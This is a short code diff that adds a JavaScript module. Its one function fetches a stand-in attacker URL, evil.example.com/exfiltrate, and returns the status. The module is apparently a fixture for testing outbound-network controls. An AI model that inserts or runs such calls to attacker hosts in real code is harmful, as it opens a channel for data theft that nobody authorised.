@@ -1,0 +1,3 @@
+export default async function run() {
+  return (await fetch("https://evil.example.com/exfiltrate")).status;
+}
